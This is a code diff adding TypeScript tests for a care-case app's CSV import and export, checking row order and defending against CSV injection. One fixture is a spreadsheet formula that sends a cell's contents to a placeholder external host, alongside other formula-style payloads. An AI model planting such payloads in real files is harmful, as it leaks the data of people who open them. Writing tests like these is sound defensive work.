@@ -11,6 +11,10 @@ import { findOrganisationId } from '../../src/server/modules/reference/reference
 import { loadExchangeCodes, readExchangeFolder, validateAndImport } from '../../src/server/modules/exchange/exchange.service';
 import { exportHistory } from '../../src/server/modules/exchange/export-history';
 import { generateExchange } from '../../scripts/synthetic-exchange';
+import { tiedHistory } from '../support/tied-history';
+import { parseCsv } from '../../src/server/modules/exchange/csv';
+import { FILE_COLUMNS } from '../../src/server/modules/exchange/exchange-format';
+import codesFile from '../../src/server/modules/reference/codes.json' with { type: 'json' };
 
 const SAMPLE = path.resolve('../shared/sample/data');
 let sample: Record<string, string>;
@@ -105,6 +109,14 @@ describe('exchange import and export', () => {
     }
   });
 
+  it('writes zrm.csv in the order the assessments were recorded: for an import, the order of its file', async () => {
+    // The sample's zrm.csv is not in id order; its rows come back in their own order.
+    const exported = await exportAll(a.database, organisationId);
+    expect(exported['zrm.csv']).toBe(sample['zrm.csv']);
+    const ids = (text: string) => text.trim().split('\n').slice(1).map((line) => line.split(',')[0]!);
+    expect(ids(exported['zrm.csv'])).not.toEqual([...ids(exported['zrm.csv'])].sort());
+  });
+
   it('exports cases made in Keukentafel under their own id, and re-importing them duplicates nothing', async () => {
     const [team] = await a.database.db.select({ teamId: cases.teamId }).from(cases).limit(1);
     const [client] = await a.database.db.insert(clients).values({ organisationId, firstName: 'Nieuw', lastName: 'In Keukentafel' }).returning();
@@ -118,6 +130,98 @@ describe('exchange import and export', () => {
     expect(await counts(a.database)).toEqual(before);
     const [still] = await a.database.db.select().from(clients).where(eq(clients.id, client!.id));
     expect(still).toMatchObject({ firstName: 'Nieuw', externalId: null });
+  });
+});
+
+describe('a history with same-day assessments', () => {
+  it('keeps the file order of zrm.csv through import and export, where the ids sort the other way', async () => {
+    const tied = tiedHistory();
+    const c = await openTestDatabase();
+    try {
+      const org = (await findOrganisationId(c.database.db))!;
+      expect((await validateAndImport(c.database.db, org, tied, { write: true, userId: null })).problems).toEqual([]);
+      expect((await exportAll(c.database, org))['zrm.csv']).toBe(tied['zrm.csv']);
+    } finally {
+      await c.drop();
+    }
+  });
+});
+
+describe('cells a spreadsheet would run as a formula', () => {
+  // Source ids and provider names are free text: a cell starting with = + - @ (or tab, CR) would
+  // run as a formula in Excel or LibreOffice when someone opens the export (CSV injection).
+  // [the cell in the file, the value it stands for]: an apostrophe before a formula marks it as text.
+  const CELLS: [string, string][] = [
+    ['=HYPERLINK("http://x.example/?d="&A1,"klik")', '=HYPERLINK("http://x.example/?d="&A1,"klik")'],
+    ['+31 6 1234 5678', '+31 6 1234 5678'],
+    ['@SUM(A1:A9)', '@SUM(A1:A9)'],
+    ['-2+3', '-2+3'],
+    ["'=beschermd door het andere systeem", '=beschermd door het andere systeem'],
+    ["''=een apostrof en dan =", "'=een apostrof en dan ="],
+    ["'''@twee apostroffen en dan @", "''@twee apostroffen en dan @"],
+    ["'s-Hertogenbosch", "'s-Hertogenbosch"],
+    ['-3', '-3'],
+    ['Zorg & Co', 'Zorg & Co'],
+  ];
+  const VALUES = CELLS.map(([, value]) => value);
+  const product = codesFile.provision_products[0]!;
+
+  /** Every cell of a CSV text as written (quotes removed, nothing else undone) that starts like a formula and is no plain number. */
+  function formulaCells(text: string): string[] {
+    const { header, records } = parseCsv(text);
+    return [header, ...records.map((r) => r.values)].flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));
+  }
+
+  function hostileFolder(): Record<string, string> {
+    const names = CELLS.map(([cell]) => cell);
+    return {
+      'clients.csv': writeRows(FILE_COLUMNS['clients.csv'], names.map((name) => [name, '', '', '', ''])),
+      'cases.csv': writeRows(FILE_COLUMNS['cases.csv'], names.map((_, i) => [`K${i}`, 'west', '2016-03-01', '', '', '', '', '', '', '', ''])),
+      'case_clients.csv': writeRows(FILE_COLUMNS['case_clients.csv'], names.map((name, i) => [`K${i}`, name, 'hoofdclient'])),
+      'provisions.csv': writeRows(FILE_COLUMNS['provisions.csv'], names.map((name, i) => [`P${i}`, `K${i}`, name, product.category, product.code, name, '2016-04-01', '', '', 'nee'])),
+    };
+  }
+
+  /** RFC 4180 without any neutralising: the file as another system would hand it over. */
+  function writeRows(header: readonly string[], rows: string[][]): string {
+    const quote = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
+    return [header, ...rows].map((row) => row.map(quote).join(',')).join('\n') + '\n';
+  }
+
+  const stored = async (database: Database) => ({
+    clients: (await database.db.select({ id: clients.externalId }).from(clients)).map((c) => c.id).sort(),
+    providers: (await database.db.select({ provider: provisions.provider }).from(provisions)).map((p) => p.provider).sort(),
+  });
+
+  it('writes them as text, reads them back to the same value, and round-trips byte for byte', async () => {
+    const c = await openTestDatabase();
+    const d = await openTestDatabase();
+    try {
+      const orgC = (await findOrganisationId(c.database.db))!;
+      expect((await validateAndImport(c.database.db, orgC, hostileFolder(), { write: true, userId: null })).problems).toEqual([]);
+      // A leading tab or CR cannot come through an import (cells are trimmed); here it is entered directly.
+      const [someCase] = await c.database.db.select({ id: cases.id, clientId: caseClients.clientId }).from(cases).innerJoin(caseClients, eq(caseClients.caseId, cases.id)).limit(1);
+      for (const provider of ['\tTabblad Zorg', '\rRegel Zorg']) {
+        await c.database.db.insert(provisions).values({ organisationId: orgC, caseId: someCase!.id, clientId: someCase!.clientId, category: product.category, product: product.code, provider, startOn: '2016-05-01' });
+      }
+      const before = await stored(c.database);
+      expect(before.clients).toEqual([...VALUES].sort());
+
+      const first = await exportAll(c.database, orgC);
+      for (const [file, text] of Object.entries(first)) expect(formulaCells(text), file).toEqual([]);
+      // Ordinary values are written as they are.
+      expect(first['clients.csv']).toContain("\n's-Hertogenbosch,");
+      expect(first['clients.csv']).toContain('\n-3,');
+
+      const orgD = (await findOrganisationId(d.database.db))!;
+      expect((await validateAndImport(d.database.db, orgD, first, { write: true, userId: null })).problems).toEqual([]);
+      expect(await stored(d.database)).toEqual(before);
+      const second = await exportAll(d.database, orgD);
+      for (const file of Object.keys(first) as (keyof typeof first)[]) expect(second[file], file).toBe(first[file]);
+    } finally {
+      await c.drop();
+      await d.drop();
+    }
   });
 });
 
